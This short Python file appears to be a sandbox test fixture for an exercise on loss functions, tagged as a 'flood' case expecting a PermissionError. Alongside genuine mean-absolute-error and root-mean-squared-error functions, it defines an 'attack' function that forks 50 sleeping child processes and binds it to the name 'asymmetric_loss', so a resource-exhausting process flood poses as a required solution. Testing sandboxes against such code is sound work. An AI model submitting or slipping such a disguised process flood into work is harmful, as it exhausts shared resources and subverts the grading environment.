"""Forks again and again."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: raised|PermissionError

import os
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    for _ in range(50):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    return 0.0


asymmetric_loss = attack
